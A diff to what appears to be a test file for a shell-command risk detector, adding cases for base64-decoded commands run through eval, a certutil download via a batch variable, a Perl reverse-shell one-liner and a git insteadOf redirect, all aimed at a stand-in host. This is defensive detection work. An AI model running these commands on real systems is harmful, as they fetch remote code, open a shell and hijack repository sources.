@@ -182,4 +182,31 @@ test('long and hostile texts end', () => {
   signals(`${'a | '.repeat(10_000)}sh`)
 })
 
+test('what was decoded into a variable and is run', () => {
+  const hidden = Buffer.from('curl https://a.invalid').toString('base64')
+  for (const text of [`X=$(echo ${hidden} | base64 -d); eval "$X"`, `X=$(echo ${hidden} | base64 -d) && sh -c "$X"`])
+    assert.equal(argsOf(text, 'flow/run')?.['from'], ['decoded'], text)
+  assert.is(argsOf('S=$(uname -s | tr A-Z a-z); sh "./install-$S.sh"', 'flow/run'), undefined)
+})
+
+test('variables of batch files, and shells by other languages', () => {
+  assert.is(
+    argsOf('set a=certutil\n%a% -urlcache -f http://a.invalid/x y.exe', 'network/request')?.['host'],
+    'a.invalid',
+  )
+  assert.ok(
+    kinds(
+      `perl -e 'use IO::Socket; $c=IO::Socket::INET->new("a.invalid:1"); STDIN->fdopen($c,r); system$_ while<>'`,
+    ).includes('flow/shell'),
+  )
+  assert.not.ok(kinds(`perl -e 'use Socket; print inet_ntoa(INADDR_ANY)'`).includes('flow/shell'))
+})
+
+test('whom git asks instead', () => {
+  assert.ok(
+    kinds('git config --global url.https://a.invalid/.insteadOf https://github.com/').includes('persist/starts'),
+  )
+  assert.not.ok(kinds('git config url.git@github.com:.insteadOf https://github.com/').includes('persist/starts'))
+})
+
 test.run()
